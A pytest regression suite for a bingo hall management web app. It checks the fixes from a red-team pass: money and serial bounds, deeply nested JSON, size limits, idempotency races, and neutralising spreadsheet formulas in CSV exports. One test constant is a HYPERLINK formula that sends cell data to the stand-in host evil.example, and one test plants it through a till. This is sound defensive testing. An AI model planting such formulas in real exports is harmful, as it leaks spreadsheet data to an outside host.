"""Bounded inputs and neutralised exports: what the red-team pass sent, and what each must answer.
The measured failures: 500s for money of $21,474,836.48 or more, JSON nested 1,000 deep (anonymous
could send it), out-of-range pack serials and one Idempotency-Key sent twice at once to
/odds/simulate; one simulation ran 326 s and a dealer could send it; spreadsheet formulas reached
the start of cells in 7 of 14 CSV exports; a link renamed a signed-in station; anonymous board
listeners got claim events by adding ?claims=1; the OpenAPI document named the wrong cookie."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy.orm import Session

from bingo.web import views as bingo_views
from shared.core.roles import Role
from shared.reports.csv_cells import safe_cell
from tests.support.client import Api, staff
from tests.support.clock import Clock
from tests.support.factories import PASSWORD, PIN, make_member, make_user
from tests.support.races import race
from tests.support.replies import ok, refused
from tests.support.shop import line, shop

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-50.00", "-50.00"),
        ("-1,234.50", "-1,234.50"),
        ("Front till", "Front till"),
        ("", ""),
    ],
)
def test_owasp_csv_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


@pytest.mark.parametrize("amount", ["21474836.48", "1000000.01", "99999999999.99"])
def test_money_past_the_largest_a_hall_handles_is_refused_naming_the_field(
    admin: Api, session: Session, clock: Clock, amount: str
) -> None:
    occ, _, cashier, ids = shop(admin, session)
    refused(
        cashier.post(
            occ + "/sales", {"buyer_is_adult": True, "lines": [line(ids, "non_gaming", 1, amount)], "tendered": amount}
        ),
        422,
        "invalid_input",
    )
    refused(
        admin.post(occ + "/products", {"kind": "non_gaming", "name": "Gold dauber", "price": amount}),
        422,
        "invalid_input",
        field="price",
    )


def test_a_sale_whose_lines_add_past_the_largest_amount_is_refused(admin: Api, session: Session, clock: Clock) -> None:
    occ, _, cashier, ids = shop(admin, session)
    ids["gold"] = ok(
        admin.post(occ + "/products", {"kind": "non_gaming", "name": "Gold dauber", "price": "1000000.00"}), 201
    )["id"]
    refused(
        cashier.post(
            occ + "/sales",
            {"buyer_is_adult": True, "lines": [line(ids, "gold", 1_000, "1000000.00")], "tendered": "1000000.00"},
        ),
        422,
        "total_too_large",
        field="lines",
    )


def test_json_nested_a_thousand_deep_is_refused_before_anyone_signs_in(app: Flask, session: Session) -> None:
    anonymous = Api(app.test_client())
    deep = "[" * 1000 + "]" * 1000
    reply = anonymous.client.post(
        "/api/v1/session", data=deep, content_type="application/json", headers={"X-CSRF-Token": anonymous.token}
    )
    assert reply.status_code == 400 and reply.get_json()["error"] == "bad_json"
    nested = '{"username": ' + '{"a": ' * 40 + "1" + "}" * 40 + ', "password": "x"}'
    reply = anonymous.client.post(
        "/api/v1/session", data=nested, content_type="application/json", headers={"X-CSRF-Token": anonymous.token}
    )
    assert reply.status_code == 400 and reply.get_json()["error"] == "bad_json"


def test_a_body_past_the_size_limit_is_refused_unread(app: Flask, session: Session) -> None:
    anonymous = Api(app.test_client())
    reply = anonymous.client.post(
        "/api/v1/session",
        data='{"username": "' + "x" * 5_000_000 + '"}',
        content_type="application/json",
        headers={"X-CSRF-Token": anonymous.token},
    )
    assert reply.status_code == 413 and reply.get_json()["error"] in {"body_too_large", "request_entity_too_large"}


def test_pack_serials_past_the_column_are_refused_naming_the_field(admin: Api, session: Session, clock: Clock) -> None:
    occ, hall, cashier, ids = shop(admin, session)
    series_id = ok(admin.get(occ))["series_id"]
    refused(
        admin.post(
            f"/api/v1/organizations/{hall.org.id}/paper-sets",
            {
                "series_id": series_id,
                "colour": "blue",
                "faces_per_sheet": 6,
                "sheets_per_pack": 1,
                "serial_from": 1,
                "serial_to": 2**31,
                "first_face": 1,
            },
        ),
        422,
        "invalid_input",
        field="serial_to",
    )
    refused(
        admin.post("/api/v1/paper-sets/1/packs", {"action": "return", "serials": [2**40]}),
        422,
        "invalid_input",
        field="serials",
    )
    refused(
        cashier.post(
            occ + "/sales",
            {
                "buyer_is_adult": True,
                "tendered": "20.00",
                "lines": [line(ids, "admission", 1, "20.00", pack_serials=[-1])],
            },
        ),
        422,
        "invalid_input",
    )


def test_odds_simulation_is_bounded_in_work_and_kept_to_the_planners(
    admin: Api, session: Session, clock: Clock
) -> None:
    occ, hall, _, _ = shop(admin, session)
    make_user(session, [Role.DEALER], member=make_member(session, hall.org), username="dealer-x")
    dealer = staff(admin, "dealer-x")
    body = {"pattern": {"kind": "any_row"}, "faces": 2000, "calls": 40, "trials": 5000}
    refused(dealer.post("/api/v1/odds/simulate", {**body, "faces": 10, "trials": 10}), 403, "forbidden")
    refused(admin.post("/api/v1/odds/simulate", body), 422, "too_much_work", field="trials")


def test_the_same_idempotency_key_twice_at_once_answers_alike_never_500(
    admin: Api, session: Session, clock: Clock
) -> None:
    shop(admin, session)
    taps = [staff(admin, "boss") for _ in range(4)]
    body = {"pattern": {"kind": "any_row"}, "faces": 50, "calls": 10, "trials": 200, "seed": 7}
    replies = race(
        [
            lambda api=api: api.post("/api/v1/odds/simulate", body, headers={"Idempotency-Key": "odds-same-key-1"})
            for api in taps
        ]
    )
    codes = [r.status_code for r in replies]
    assert all(code in (200, 409, 429) for code in codes), codes
    assert 200 in codes


def test_formulas_typed_at_a_till_reach_no_csv_cell_as_formulas(admin: Api, session: Session, clock: Clock) -> None:
    """A cashier plants a formula as the station's name and as a void's reason; the sales report's
    CSV tables quote both."""
    occ, hall, cashier, ids = shop(admin, session, till=False)
    with cashier.client.session_transaction() as sess:
        sess["station"] = FORMULA
    ok(cashier.post(occ + "/tills", {"opening_bank": "50.00"}), 201)
    sale = ok(
        cashier.post(
            occ + "/sales", {"buyer_is_adult": True, "lines": [line(ids, "admission", 1, "20.00")], "tendered": "20.00"}
        ),
        201,
    )
    ok(
        cashier.post(
            f"/api/v1/sales/{sale['id']}/void",
            {"reason": FORMULA, "approver_username": f"mic{hall.org.id}", "approver_pin": PIN},
        )
    )
    cells = []
    for table in ("voids", "tills"):
        reply = admin.get(f"{occ}/sales-report/{table}.csv")
        assert reply.status_code == 200, table
        cells += [cell for row in csv.reader(io.StringIO(reply.get_data(as_text=True))) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_a_link_cannot_rename_a_station_while_someone_is_signed_in(app: Flask, session: Session) -> None:
    make_user(session, [Role.ADMIN], username="boss")
    api = Api(app.test_client())
    api.client.get("/pin?station=Front till")
    assert api.sign_in("boss", PASSWORD).status_code == 200
    api.client.get("/pin?station=Back door")
    with api.client.session_transaction() as sess:
        assert sess["station"] == "Front till"


def test_claim_events_go_only_to_the_floor_staff_not_to_an_anonymous_listener(app: Flask, session: Session) -> None:
    caller = make_user(session, [Role.CALLER], username="caller-x")
    with app.test_request_context("/bingo/board/x/events?claims=1"):
        assert bingo_views._sees_claims() is False
    with app.test_request_context("/bingo/board/x/events?claims=1"):
        from flask import g

        g.user = caller
        assert bingo_views._sees_claims() is True


def test_openapi_names_the_real_cookie_and_documents_500_and_503(api: Api) -> None:
    document = api.get("/api/v1/openapi.json").get_json()
    assert document["components"]["securitySchemes"]["session"]["name"] == "flashboard_session"
    responses = document["paths"]["/api/v1/session"]["post"]["responses"]
    assert {"500", "503"} <= set(responses)


def test_every_csv_export_writes_its_cells_through_the_neutraliser() -> None:
    """The 14 CSV exports are built from report documents, the jar statement and the series file;
    none may write a cell past shared/reports/csv_cells.py."""
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for folder in ("bingo", "poker", "shared")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() and path.name != "csv_cells.py"
    ]
    assert writers == []


def test_a_repeated_non_ascii_name_is_refused_as_taken_not_a_500(admin: Api, session: Session) -> None:
    """Found by the deeper schemathesis run: SQLite's lower() folds ASCII only, so a second
    organization named "ÖØ Lodge" passed the check and hit the unique index."""
    body = {"name": "ÖØ Lodge ¿", "kind": "religious"}
    assert admin.post("/api/v1/organizations", body).status_code == 201
    refused(admin.post("/api/v1/organizations", body), 409, "duplicate", field="name")
